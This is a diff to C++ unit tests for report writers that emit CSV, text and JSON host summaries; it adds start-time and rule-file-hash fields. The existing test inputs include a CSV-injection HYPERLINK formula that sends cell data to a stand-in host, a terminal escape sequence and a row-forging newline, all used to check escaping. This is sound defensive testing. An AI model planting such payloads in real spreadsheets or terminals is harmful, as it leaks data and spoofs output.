@@ -39,13 +39,13 @@ TEST(SummaryWriters, CsvCellsAreNeverFormulas) {
                                   Row("\tpc"), Row("\rpc"), Row("pc=1")};
   EXPECT_EQ(
       SummaryCsv(rows),
-      "host,file,result,pairs_run,failed_actions,reboot_needed,run_time_ms,note\n"
-      R"x("'=HYPERLINK(""http://x.example/?""&C2,""see"")",r.jsonl,success,1,,no,'-3,'@SUM(1+1))x"
-      "\n'+1+1,r.jsonl,success,1,,no,5,\n"
-      "'-2,r.jsonl,success,1,,no,5,\n"
-      "'\tpc,r.jsonl,success,1,,no,5,\n"
-      "\"'\rpc\",r.jsonl,success,1,,no,5,\n"
-      "pc=1,r.jsonl,success,1,,no,5,\n");
+      "host,file,result,pairs_run,failed_actions,reboot_needed,run_time_ms,note,start,ini_sha256\n"
+      R"x("'=HYPERLINK(""http://x.example/?""&C2,""see"")",r.jsonl,success,1,,no,'-3,'@SUM(1+1),,)x"
+      "\n'+1+1,r.jsonl,success,1,,no,5,,,\n"
+      "'-2,r.jsonl,success,1,,no,5,,,\n"
+      "'\tpc,r.jsonl,success,1,,no,5,,,\n"
+      "\"'\rpc\",r.jsonl,success,1,,no,5,,,\n"
+      "pc=1,r.jsonl,success,1,,no,5,,,\n");
 }
 
 // Escape sequences reach no terminal, and a line break in a host name forges no row.
@@ -55,10 +55,12 @@ TEST(SummaryWriters, TheTextShowsControlsEscaped) {
   const std::vector<std::wstring> lines = Lines(SummaryText(rows));
   ASSERT_GE(lines.size(), 3U);
   EXPECT_EQ(lines[1],
-            L"pc-a\\x1b]0;owned\\x07  success  1          -               no      0.005 s");
+            L"pc-a\\x1b]0;owned\\x07  success  1          -               no      0.005 s   -  "
+            L"      -");
   EXPECT_EQ(lines[2],
-            L"pc-c\\npc-b  success   failure  1          -               no      0.005 s");
-  EXPECT_EQ(lines.size(), 8U);
+            L"pc-c\\npc-b  success   failure  1          -               no      0.005 s   -  "
+            L"      -");
+  EXPECT_EQ(lines.size(), 9U);
   EXPECT_EQ(lines.back(), L"  pc-c\\npc-b  success  failure");
 }
 
@@ -100,14 +102,55 @@ TEST(SummaryWriters, AnExpectedHostWithoutARecordNeedsAttention) {
   missing.Result = Standing::NoRecord;
   const std::vector<HostRow> rows{Row("pc-a"), missing};
   const std::vector<std::wstring> lines = Lines(SummaryText(rows));
-  EXPECT_EQ(lines[2], L"pc-z  no record  -          -               no      -");
+  EXPECT_EQ(lines[2], L"pc-z  no record  -          -               no      -         -        -");
   EXPECT_EQ(lines[4], L"Hosts: 2; success 1, no record 1");
-  EXPECT_EQ(lines[7], L"  pc-z  no record");
+  EXPECT_EQ(lines[5], L"  rule file unknown: 2; success 1, no record 1");
+  EXPECT_EQ(lines[8], L"  pc-z  no record");
   const nlohmann::json document = nlohmann::json::parse(SummaryJson(rows));
   EXPECT_EQ(document["hosts"][1]["file"], nullptr);
   EXPECT_EQ(document["totals"]["no record"], 1);
   EXPECT_EQ(document["attention"][0]["result"], "no record");
-  EXPECT_EQ(SummaryCsv(rows).substr(SummaryCsv(rows).rfind("pc-z")), "pc-z,,no record,,,no,,\n");
+  EXPECT_EQ(SummaryCsv(rows).substr(SummaryCsv(rows).rfind("pc-z")), "pc-z,,no record,,,no,,,,\n");
+}
+
+// Each row tells when its run started and which rule file it ran (the hash's
+// beginning in the text, whole in the documents); the totals are split by rule
+// file, and the records left out for a newer one are counted and named.
+TEST(SummaryWriters, StartRuleFileAndOlderRecords) {
+  const std::string hashA(64, 'a');
+  const std::string hashB = "0123456789ab" + std::string(52, 'b');
+  HostRow a = Row("pc-a");
+  a.Start = "2026-12-09T08:00:00.000Z";
+  a.IniSha256 = hashA;
+  HostRow b = Row("pc-b", Standing::Failure);
+  b.Start = "2026-12-09T09:00:00.000Z";
+  b.IniSha256 = hashB;
+  HostRow c = Row("pc-c");
+  c.IniSha256 = hashB;
+  HostRow old = Row("PC-A", Standing::Failure);
+  old.File = "old.jsonl";
+  old.Start = "2026-12-08T08:00:00.000Z";
+  const std::vector<HostRow> rows{a, b, c};
+  const std::vector<std::wstring> lines = Lines(SummaryText(rows, {old}));
+  EXPECT_EQ(lines[1].substr(lines[1].size() - 38), L"2026-12-09T08:00:00.000Z  aaaaaaaaaaaa");
+  EXPECT_EQ(lines[2].substr(lines[2].size() - 38), L"2026-12-09T09:00:00.000Z  0123456789ab");
+  EXPECT_EQ(lines[3].substr(lines[3].size() - 38), L"-" + std::wstring(25, L' ') + L"0123456789ab");
+  EXPECT_EQ(lines[5], L"Hosts: 3; success 2, failure 1");
+  EXPECT_EQ(lines[6], L"  rule file 0123456789ab: 2; success 1, failure 1");
+  EXPECT_EQ(lines[7], L"  rule file aaaaaaaaaaaa: 1; success 1");
+  EXPECT_EQ(lines[9], L"Older records left out for a newer one of their host: 1");
+  EXPECT_EQ(lines[10], L"  PC-A  old.jsonl  2026-12-08T08:00:00.000Z");
+
+  const nlohmann::json document = nlohmann::json::parse(SummaryJson(rows, {old}));
+  EXPECT_EQ(document["hosts"][1]["iniSha256"], hashB);
+  EXPECT_EQ(document["hosts"][1]["start"], "2026-12-09T09:00:00.000Z");
+  EXPECT_EQ(document["hosts"][2]["start"], nullptr);
+  EXPECT_EQ(document["totalsByRuleFile"][0]["iniSha256"], hashB);
+  EXPECT_EQ(document["totalsByRuleFile"][0]["hosts"], 2);
+  EXPECT_EQ(document["totalsByRuleFile"][0]["failure"], 1);
+  EXPECT_EQ(document["olderRecords"][0]["file"], "old.jsonl");
+  EXPECT_EQ(document["olderRecords"][0]["start"], "2026-12-08T08:00:00.000Z");
+  EXPECT_NE(SummaryCsv(rows).find(",2026-12-09T09:00:00.000Z," + hashB + "\n"), std::string::npos);
 }
 
 }  // namespace
